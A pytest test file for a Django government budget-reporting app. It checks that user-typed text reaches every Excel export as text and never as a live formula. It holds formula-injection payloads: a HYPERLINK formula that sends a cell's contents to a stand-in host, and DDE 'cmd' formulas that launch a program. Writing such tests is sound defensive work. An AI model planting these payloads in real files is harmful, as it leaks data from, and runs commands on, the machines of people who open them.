"""Text people type goes into every Excel file of SiPOK as text, never as a formula.

A kendala of ``=HYPERLINK("http://…?bocor="&B5,"Klik")`` or ``=cmd|' /C calc'!A0``, a PD named
like one, a tindak lanjut, an arahan: openpyxl makes any str that starts with "=" a formula cell,
and Excel or LibreOffice runs it when the file is opened. The walk below finds every view that
answers with an .xlsx file, from the URL configuration (as the permission walk does), fills every
text an operator or an admin can type with such text, downloads every file as every role that may,
and fails on any formula or error cell SiPOK did not make itself — and on any typed text that does
not arrive, unchanged, as a text cell in some file.
"""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from akun.models import Role
from impor import services as impor_services
from impor.models import Impor
from impor.parsers import DPA_KOLOM, LEMBAR_DPA
from kegiatan.models import Kegiatan, Program, SubKegiatan, SumberDana
from laporan import sel
from pengadaan import services as pengadaan_services
from perangkat_daerah.models import Pemda
from rakor import services as rakor_services
from realisasi import verifikasi
from realisasi.models import BuktiDukung, Realisasi

from .builders import JT, make_dpa, make_pd, make_user
from .test_excel import libreoffice, soffice  # noqa: F401  (a fixture)
from .test_permission_walk import EXPECTED, PUBLIC, url_names

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def rumus(siapa: str) -> str:
    """Text that looks like a formula sending cell B5 to another site."""
    return f'=HYPERLINK("http://contoh.invalid/?bocor="&B5,"{siapa}")'


def perintah(siapa: str) -> str:
    """Text that looks like a DDE formula starting a program."""
    return f"=cmd|' /C calc {siapa}'!A0"


# Everything a person types that a file can show. Text that starts with "+", "-" or "@" is no
# formula in an .xlsx string cell and must arrive as typed (no apostrophe put in front); "#N/A"
# and "#REF!" are Excel's error codes, which openpyxl would write as error cells.
TEKS = {
    "pemda": rumus("pemda"),
    "pd": perintah("pd"),
    "pd singkatan": "=DPUPR!A1",
    "pd lain": "-Dinas Kesehatan (=1+1)",
    "pd lain singkatan": "@DINKES",
    "program": "+62 Program (=1+1)",
    "kegiatan": rumus("kegiatan"),
    "sub kegiatan": perintah("sub-kegiatan"),
    "nama sub kegiatan di DPA": rumus("nama-dpa"),
    "sumber dana": rumus("sumber-dana"),
    "lokasi": "#N/A",
    "indikator keluaran": rumus("indikator"),
    "PPTK": perintah("pptk"),
    "kendala": rumus("kendala"),
    "solusi": "=2+3",
    "kendala lain": perintah("kendala"),
    "solusi lain": "@SUM(A1:A9)",
    "catatan verifikasi": rumus("catatan-verifikasi"),
    "catatan bulanan": rumus("catatan-bulanan"),
    "tempat rakor": rumus("tempat"),
    "pimpinan rapat": perintah("pimpinan"),
    "agenda": rumus("agenda"),
    "notulen": rumus("notulen"),
    "peserta": perintah("peserta"),
    "jabatan peserta": rumus("jabatan"),
    "arahan": rumus("arahan"),
    "rekomendasi": perintah("rekomendasi"),
    "tindak lanjut": rumus("tindak-lanjut"),
    "paket": rumus("paket"),
    "penyedia": "#REF!",
    "nama admin": rumus("admin"),
    "nama operator": perintah("operator"),
    "kode PD di berkas impor": rumus("impor"),
    "nama di berkas impor": perintah("impor"),
}

# Formulas SiPOK writes itself, by pattern. There are none today: every subtotal and total is a
# value from laporan.figures, the same as the screen. A formula the code adds goes here.
RUMUS_SENDIRI: tuple[re.Pattern, ...] = ()

PERIODE = {"tahun": 2026, "bulan": 6}
LAPORAN = [
    "laporan:rekap-pemda",
    "laporan:rekap-pd",
    "laporan:rekap-sumber-dana",
    "laporan:detail-pd",
    "laporan:kurva-s",
    "laporan:kendala",
    "laporan:kepatuhan",
    "laporan:pengadaan",
]
# A file SiPOK does not write: evidence an operator uploaded, handed back byte for byte.
DISERAHKAN_APA_ADANYA = {"realisasi:bukti-unduh"}


def teks_cell(ws, row: int, column: int, value: str) -> None:
    """A string cell, as Excel saves text typed after an apostrophe."""
    cell = ws.cell(row=row, column=column)
    cell.value = value
    cell.data_type = "s"


def berkas_xlsx(isi: dict[str, str], lembar: str = "Sheet") -> bytes:
    """A workbook with one row of text under a header row (the uploaded files)."""
    wb = Workbook()
    ws = wb.active
    ws.title = lembar
    for column, (judul, value) in enumerate(isi.items(), start=1):
        teks_cell(ws, 1, column, judul)
        if value is not None:
            teks_cell(ws, 2, column, value)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def berkas_impor(sub_kegiatan) -> bytes:
    """A DPA import file with an unknown PD code (so it has errors) and a formula-looking name."""
    isi = dict.fromkeys((k.judul for k in DPA_KOLOM), None)
    judul = {k.kunci: k.judul for k in DPA_KOLOM}
    isi[judul["kode_pd"]] = TEKS["kode PD di berkas impor"]
    isi[judul["kode_sub_kegiatan"]] = sub_kegiatan.kode
    isi[judul["nama_sub_kegiatan"]] = TEKS["nama di berkas impor"]
    isi[judul["kode_sumber_dana"]] = "PAD"
    isi[judul["pagu"]] = "1.000.000"
    return berkas_xlsx(isi, LEMBAR_DPA)


def lapor(dpa, bulan, fisik, kendala, solusi, **fields):
    return Realisasi.objects.create(
        dpa=dpa,
        bulan=bulan,
        realisasi_fisik=Decimal(fisik),
        realisasi_keuangan=10 * JT * bulan,
        status=Realisasi.Status.DIVERIFIKASI,
        kendala=kendala,
        solusi=solusi,
        **fields,
    )


@pytest.fixture
def world(db, time_machine):
    """A pemda where everything typed looks like a formula: DPUPR's objects, one of each kind a
    URL can point at, and Dinkes (the outsider's PD). A Rakor of TW I, final, whose open
    recommendation is carried to the draft Rakor of TW II."""
    time_machine.move_to(datetime.datetime(2026, 7, 5, 9, 0), tick=False)
    Pemda.objects.create(nama=TEKS["pemda"], sebutan_kepala_daerah="Bupati")
    dpupr = make_pd("1.03.01", TEKS["pd singkatan"], TEKS["pd"])
    dinkes = make_pd("1.02.01", TEKS["pd lain singkatan"], TEKS["pd lain"])
    admin = make_user("admin_bappeda", Role.ADMIN, is_staff=True, first_name=TEKS["nama admin"])
    owner = make_user("operator_dpupr", Role.OPERATOR, dpupr, first_name=TEKS["nama operator"])
    users = {
        "outsider": make_user("operator_dinkes", Role.OPERATOR, dinkes),
        "owner": owner,
        "admin": admin,
        "pimpinan": make_user("bupati", Role.PIMPINAN),
        "auditor": make_user("inspektur", Role.AUDITOR),
    }
    sumber = SumberDana.objects.create(kode="PAD", nama=TEKS["sumber dana"], kelompok="apbd")
    program = Program.objects.create(kode="1.03.10", nama=TEKS["program"])
    kegiatan = Kegiatan.objects.create(program=program, kode="1.03.10.2.01", nama=TEKS["kegiatan"])
    jalan = SubKegiatan.objects.create(
        kegiatan=kegiatan, kode="1.03.10.2.01.0010", nama=TEKS["sub kegiatan"]
    )
    dpa = make_dpa(
        dpupr,
        jalan,
        sumber,
        3000 * JT,
        nama_sub_kegiatan=TEKS["nama sub kegiatan di DPA"],
        lokasi=TEKS["lokasi"],
        indikator_keluaran=TEKS["indikator keluaran"],
        pptk_nama=TEKS["PPTK"],
    )
    own = make_dpa(dinkes, jalan, sumber, 100 * JT)
    for line, kendala, solusi in (
        (dpa, TEKS["kendala"], TEKS["solusi"]),
        (own, TEKS["kendala lain"], TEKS["solusi lain"]),
    ):
        lapor(line, 3, 10, kendala, solusi)
    juni = lapor(
        dpa, 6, 30, TEKS["kendala"], TEKS["solusi"], catatan_verifikasi=TEKS["catatan verifikasi"]
    )
    lapor(own, 6, 30, TEKS["kendala lain"], TEKS["solusi lain"])
    verifikasi.catatan_bulanan_set(
        perangkat_daerah=dpupr, tahun=2026, bulan=6, catatan=TEKS["catatan bulanan"], by=admin
    )
    bukti_isi = berkas_xlsx({"Bukti": TEKS["kendala"]})
    bukti = BuktiDukung(realisasi=juni, nama_asli="bukti.xlsx", jenis=XLSX, ukuran=len(bukti_isi))
    bukti.berkas.save("bukti.xlsx", ContentFile(bukti_isi), save=False)
    bukti.save()
    paket = pengadaan_services.paket_create(
        dpa=dpa, by=owner, nama=TEKS["paket"], metode="tender", penyedia=TEKS["penyedia"]
    )

    def rakor(triwulan):
        made = rakor_services.rakor_create(
            by=admin,
            tahun=2026,
            triwulan=triwulan,
            tanggal=datetime.date(2026, 3 * triwulan + 1, 2),
            tempat=TEKS["tempat rakor"],
            pimpinan_rapat=TEKS["pimpinan rapat"],
            agenda=TEKS["agenda"],
            catatan=TEKS["notulen"],
        )
        peserta = rakor_services.peserta_add(
            rakor=made,
            by=admin,
            nama=TEKS["peserta"],
            jabatan=TEKS["jabatan peserta"],
            kategori="kepala_pd",
        )
        arahan = rakor_services.arahan_add(rakor=made, isi=TEKS["arahan"], by=admin)
        rekomendasi = rakor_services.rekomendasi_add(
            rakor=made,
            perangkat_daerah=dpupr,
            isi=TEKS["rekomendasi"],
            batas_waktu=datetime.date(2026, 3 * triwulan + 2, 28),
            by=admin,
        )
        return made, peserta, arahan, rekomendasi

    tw1, _, _, carried = rakor(1)
    rakor_services.rakor_finalise(rakor=tw1, by=admin)
    rakor_services.tindak_lanjut_update(
        rekomendasi=carried, status="dalam_proses", tindak_lanjut=TEKS["tindak lanjut"], by=owner
    )
    tw2, peserta, arahan, rekomendasi = rakor(2)
    impor = impor_services.impor_unggah(
        jenis="dpa",
        berkas=ContentFile(berkas_impor(jalan)),
        nama_asli="dpa.xlsx",
        tahun=2026,
        by=admin,
    )
    assert impor.status == Impor.Status.DITOLAK and impor.galat

    # The URL arguments of every URL that takes some (the permission walk's set).
    kwargs = {
        "realisasi:entri": {"pd_pk": dpupr.pk, "tahun": 2026, "bulan": 6},
        "realisasi:entri-salin": {"pd_pk": dpupr.pk, "tahun": 2026, "bulan": 7},
        "realisasi:bukti": {"dpa_pk": dpa.pk, "bulan": 6},
        "realisasi:bukti-unduh": {"pk": bukti.pk},
        "realisasi:bukti-hapus": {"pk": bukti.pk},
        "realisasi:verifikasi-pd": {"pd_pk": dpupr.pk, "tahun": 2026, "bulan": 6},
        "realisasi:kunci-bulan": {"tahun": 2026, "bulan": 6},
        "realisasi:kunci-buka": {"tahun": 2026, "bulan": 6},
        "pengadaan:ubah": {"pk": paket.pk},
        "pengadaan:hapus": {"pk": paket.pk},
        "rakor:detail": {"pk": tw2.pk},
        "rakor:ubah": {"pk": tw2.pk},
        "rakor:peserta-tambah": {"pk": tw2.pk},
        "rakor:peserta-hapus": {"pk": tw2.pk, "peserta_pk": peserta.pk},
        "rakor:arahan-tambah": {"pk": tw2.pk},
        "rakor:arahan-hapus": {"pk": tw2.pk, "arahan_pk": arahan.pk},
        "rakor:rekomendasi-tambah": {"pk": tw2.pk},
        "rakor:rekomendasi-hapus": {"pk": tw2.pk, "rekomendasi_pk": rekomendasi.pk},
        "rakor:finalkan": {"pk": tw2.pk},
        "rakor:buka": {"pk": tw2.pk},
        "rakor:tindak-lanjut": {"pk": carried.pk},
        "impor:detail": {"pk": impor.pk},
        "impor:galat": {"pk": impor.pk},
        "impor:terapkan": {"pk": impor.pk},
        "atur-ulang-sandi": {"pk": owner.pk},
    }
    xlsx = {"format": "xlsx"}
    laporan = [
        ({}, {**PERIODE, **xlsx}),  # detail-pd: every DPA line, streamed (a PD's for operators)
        ({}, {**PERIODE, **xlsx, "perangkat_daerah": dpupr.pk, "sumber_dana": sumber.pk}),
    ]
    # Every download and the requests that fetch its files: (URL arguments, query string).
    downloads = {
        **dict.fromkeys(LAPORAN, laporan),
        "rakor:detail": [
            ({"pk": tw1.pk}, xlsx),  # final: the frozen figures
            ({"pk": tw1.pk}, {**xlsx, "bandingkan": "1"}),  # … compared with today's
            ({"pk": tw2.pk}, xlsx),  # draft, with TW I's follow-up carried over
        ],
        "riwayat:unduh": [({}, {}), ({}, {"pengguna": admin.pk})],
        "impor:templat-dpa": [({}, {"tahun": 2026})],
        "impor:templat-sp2d": [({}, {"tahun": 2026})],
        "impor:galat": [({"pk": impor.pk}, {})],
    }
    return {
        "users": users,
        "kwargs": kwargs,
        "downloads": downloads,
        "bukti": (kwargs["realisasi:bukti-unduh"], bukti_isi),
        "dpupr": dpupr,
    }


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def is_xlsx(response) -> bool:
    disposition = response.get("Content-Disposition", "")
    return response.get("Content-Type") == XLSX or ".xlsx" in disposition


def readers(name) -> list[str]:
    """The roles that may GET the URL (the permission walk's table), the most able first."""
    order = ["admin", "auditor", "pimpinan", "owner", "outsider"]
    return [role for role in order if role in EXPECTED[name][0]]


def client_for(world, role) -> Client:
    client = Client()
    client.force_login(world["users"][role])
    return client


def test_the_walk_finds_every_download(world):
    """Every URL of the URL configuration, asked with ``?format=xlsx`` by a role that may read
    it: the ones that answer with an .xlsx file are exactly the downloads scanned below."""
    clients = {}
    found = set()
    for name in sorted(set(url_names()) - PUBLIC):
        roles = readers(name)
        if not roles:
            continue  # POST only
        client = clients.setdefault(roles[0], client_for(world, roles[0]))
        url = reverse(name, kwargs=world["kwargs"].get(name, {}))
        response = client.get(url, {**PERIODE, "format": "xlsx"})
        if is_xlsx(response):
            found.add(name)
    assert found == set(world["downloads"]) | DISERAHKAN_APA_ADANYA


def downloaded(world):
    """Every file of every download, as every role that may: [(what, streamed, workbook)]."""
    files = []
    for name, requests in world["downloads"].items():
        for role in readers(name):
            client = client_for(world, role)
            for kwargs, query in requests:
                response = client.get(reverse(name, kwargs=kwargs), query)
                what = f"{name} {query} as {role}"
                assert response.status_code == 200, f"{what}: {response.status_code}"
                assert is_xlsx(response), what
                workbook = load_workbook(io.BytesIO(content(response)))
                files.append((what, response.streaming, workbook))
    return files


def sendiri(value) -> bool:
    return any(pattern.fullmatch(str(value)) for pattern in RUMUS_SENDIRI)


def test_no_download_holds_a_formula_or_error_from_typed_text(world):
    failures = []
    files = downloaded(world)
    assert len(files) >= len(world["downloads"])
    assert any(streamed for _, streamed, _ in files), "no write-only (streamed) file scanned"
    for what, _, wb in files:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    where = f"{what}: {ws.title}!{cell.coordinate}"
                    if cell.data_type == "f" and not sendiri(cell.value):
                        failures.append(f"{where} is a formula: {cell.value!r}")
                    elif cell.data_type == "e":
                        failures.append(f"{where} is an error value: {cell.value!r}")
    assert not failures, "\n".join(failures[:40]) + f"\n({len(failures)} cells)"


def test_everything_typed_arrives_as_it_was_typed(world):
    """Each text above is in some file, in a text cell, unchanged (no apostrophe added): the scan
    covers every field, not a file where the text never went."""
    texts = [
        cell.value
        for _, _, wb in downloaded(world)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "s" and isinstance(cell.value, str)
    ]
    missing = [key for key, text in TEKS.items() if not any(text in value for value in texts)]
    assert not missing, f"typed text found in no downloaded file: {missing}"


def test_evidence_is_handed_back_as_it_was_uploaded(world):
    """The one .xlsx the walk finds that SiPOK does not write: the operator's own file."""
    kwargs, uploaded = world["bukti"]
    for role in readers("realisasi:bukti-unduh"):
        response = client_for(world, role).get(reverse("realisasi:bukti-unduh", kwargs=kwargs))
        assert response.status_code == 200, role
        assert content(response) == uploaded, role


# --- The helper every writer uses -----------------------------------------------------------


@pytest.mark.parametrize("write_only", [False, True], ids=["in-memory", "write-only"])
def test_openpyxl_alone_makes_typed_text_a_formula_and_the_helper_keeps_it_text(
    write_only, tmp_path
):
    """The cause: openpyxl decides a cell's type when its value is set — a str starting with
    "=" becomes a formula, "#N/A" an error. ``laporan.sel`` keeps text text, leaves numbers and
    dates as openpyxl makes them, and drops the control characters a workbook cannot hold
    (instead of failing)."""
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("Uji") if write_only else wb.active
    ws.append([TEKS["kendala"], "#N/A"])  # openpyxl alone
    values = [TEKS["kendala"], "#N/A", "+62 811", "baris\x0bsatu", Decimal("12.5"), 7]
    ws.append([sel.baru(ws, value) for value in [*values, datetime.date(2026, 6, 30)]])
    path = tmp_path / "uji.xlsx"
    wb.save(path)
    alone, guarded = load_workbook(path).worksheets[0].iter_rows(max_row=2)
    assert [cell.data_type for cell in alone[:2]] == ["f", "e"]
    assert [(cell.value, cell.data_type) for cell in guarded] == [
        (TEKS["kendala"], "s"),
        ("#N/A", "s"),
        ("+62 811", "s"),
        ("barissatu", "s"),
        (12.5, "n"),
        (7, "n"),
        (datetime.datetime(2026, 6, 30), "d"),
    ]


# --- LibreOffice shows the text, runs nothing ---------------------------------------------------


@pytest.mark.parametrize("satu_pd", [True, False], ids=["detail-pd", "dpa-semua-write-only"])
def test_libreoffice_shows_typed_formulas_as_text(world, soffice, tmp_path, satu_pd):  # noqa: F811
    """LibreOffice opens the detail-PD file (and every DPA line, streamed) and shows each
    text exactly as typed: ``=2+3`` stays ``=2+3``, not 5; a HYPERLINK is no link showing its
    label."""
    query = {**PERIODE, "format": "xlsx"}
    if satu_pd:
        query["perangkat_daerah"] = world["dpupr"].pk
    response = client_for(world, "admin").get(reverse("laporan:detail-pd"), query)
    assert response.streaming is not satu_pd  # every DPA line: written in write-only mode
    path = tmp_path / "detail.xlsx"
    path.write_bytes(content(response))
    result = libreoffice(
        soffice, [path], "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,true", tmp_path
    )
    assert result.returncode == 0, result.stderr
    rows = list(
        csv.reader(io.StringIO((tmp_path / "detail.csv").read_text("utf-8")), delimiter=";")
    )
    line = next((row for row in rows if TEKS["kendala"] in row), None)
    assert line is not None, f"the kendala is not shown as typed: {rows}"
    for key in ("solusi", "lokasi", "nama sub kegiatan di DPA"):
        assert TEKS[key] in line, f"{key}: {TEKS[key]!r} not shown as typed in {line}"
    cells = {cell for row in rows for cell in row}
    assert TEKS["pemda"] in cells and TEKS["program"] in cells
    assert not {"pemda", "kendala", "nama-dpa"} & cells  # what the HYPERLINKs would show
